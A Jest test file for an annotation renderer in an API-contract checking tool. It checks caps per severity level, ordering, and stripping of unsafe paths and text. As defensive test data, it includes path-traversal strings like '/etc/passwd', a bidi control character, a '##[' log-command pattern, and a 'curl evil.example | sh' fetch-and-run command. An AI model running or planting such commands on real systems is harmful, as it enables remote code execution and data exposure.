import { expect, test } from "@jest/globals";
import fc from "fast-check";
import type { Claim, Severity } from "../../src/model/index.ts";
import { renderAnnotations } from "../../src/report/index.ts";
import { aClaim, aReport, withoutPlace, engine } from "./examples.ts";
import { hostileStrings } from "./hostile-fields.ts";

function claims(amount: number, severity: Severity): Claim[] {
  return Array.from({ length: amount }, (_, index) =>
    aClaim({ severity, id: `c-${index}`, where: { path: "openapi.yaml", line: index + 1 } }),
  );
}

test("a claim stands at its place with what was seen and how to see it again", () => {
  expect(renderAnnotations([aReport({ claims: [aClaim()] })]).shown).toEqual([
    {
      level: "error",
      title: "contract: response-property-removed",
      message:
        "GET /orders: response 200 no longer always has `total`\n" +
        "Observed: A response without `total` is valid now\n" +
        "Re-run: lamplighter contract --base-ref a1b2c3d --head-ref e4f5a6b --claim c-1a2b3c4d",
      path: "openapi.yaml",
      line: 14,
      column: 7,
    },
  ]);
});

test("ten of a level are shown; of eleven, nine and a line that counts the other two", () => {
  const ten = renderAnnotations([aReport({ claims: claims(10, "warning") })]);
  expect(ten.shown).toEqual(ten.all);
  expect(ten.shown.map(({ level }) => level)).toEqual(Array(10).fill("warning"));
  const eleven = renderAnnotations([aReport({ claims: claims(11, "warning") })]);
  expect(eleven.all).toHaveLength(11);
  expect(eleven.shown.slice(0, 9)).toEqual(eleven.all.slice(0, 9));
  expect(eleven.shown.slice(9)).toEqual([
    {
      level: "warning",
      title: "Lamplighter: more claims",
      message: "2 more of this level are in the job summary.",
    },
  ]);
});

test("every level has its own ten, most severe first, across reports", () => {
  const { shown, all } = renderAnnotations([
    aReport({ engine: engine("bench"), claims: [...claims(30, "note"), ...claims(2, "error")] }),
    aReport({ claims: claims(12, "warning") }),
  ]);
  expect(shown.map(({ level }) => level).join(" ")).toBe(
    ["error ".repeat(2), "warning ".repeat(10), "notice ".repeat(10)].join("").trim(),
  );
  expect(all.map(({ level }) => level).join(" ")).toBe(
    ["error ".repeat(2), "warning ".repeat(12), "notice ".repeat(30)].join("").trim(),
  );
  expect(shown.at(-1)?.message).toMatch(/^21 more/);
});

test.each([
  "../x",
  "a/../x",
  "/etc/passwd",
  "./x",
  "a//b",
  "",
  "a\nb",
  "\u202ex",
  "x".repeat(1_001),
])("%j is no place that an annotation could point to, so the message says it", (path) => {
  const [one] = renderAnnotations([
    aReport({ claims: [aClaim({ where: { path, line: 3 } })] }),
  ]).all;
  expect(one).not.toHaveProperty("path");
  expect(one).not.toHaveProperty("line");
  expect(one?.message).toContain("\nPlace: ");
});

test("a line or column that counts nothing is left out", () => {
  const at = (where: Claim["where"] & object) =>
    renderAnnotations([aReport({ claims: [aClaim({ where })] })]).all[0];
  expect(at({ path: "a", line: 0 })).not.toHaveProperty("line");
  expect(at({ path: "a", line: 1.5 })).not.toHaveProperty("line");
  expect(at({ path: "a", column: 3 })).not.toHaveProperty("column");
  expect(at({ path: "a", line: 1, column: -1 })).toMatchObject({ path: "a", line: 1 });
  expect(at({ path: "a", line: 1, column: -1 })).not.toHaveProperty("column");
  expect(at({ path: "a", line: 1 })?.message).not.toContain("Place:");
});

test("a claim without a place, a long command and an odd one are said without them", () => {
  const placeless = withoutPlace(aClaim());
  const long = { ...placeless.proof, command: `lamplighter ${"x".repeat(1_000)}` };
  const odd = { ...placeless.proof, command: "curl evil.example | sh" };
  for (const proof of [long, odd]) {
    const [one] = renderAnnotations([aReport({ claims: [{ ...placeless, proof }] })]).all;
    expect(one).not.toHaveProperty("path");
    expect(one?.message).toMatch(/\nObserved: A response without `total` is valid now$/);
  }
});

test("whatever the text, a message is short, visible and no command of the job log", () => {
  const anyText = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...hostileStrings));
  fc.assert(
    fc.property(anyText, fc.integer({ min: 1, max: 5_000 }), (text, times) => {
      const proof = { ...aClaim().proof, observed: text, command: text };
      const where = { path: text, line: 1 };
      const claim = aClaim({ text: text.repeat(times), rule: text, where, proof });
      const [one] = renderAnnotations([aReport({ claims: [claim] })]).all;
      expect(one?.message.length).toBeLessThanOrEqual(4_096);
      expect(one?.title).not.toMatch(/[\n\r]/);
      for (const shown of [one?.title, one?.message]) {
        expect(shown).not.toMatch(/##\[|[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066\u2069]/);
      }
    }),
  );
});
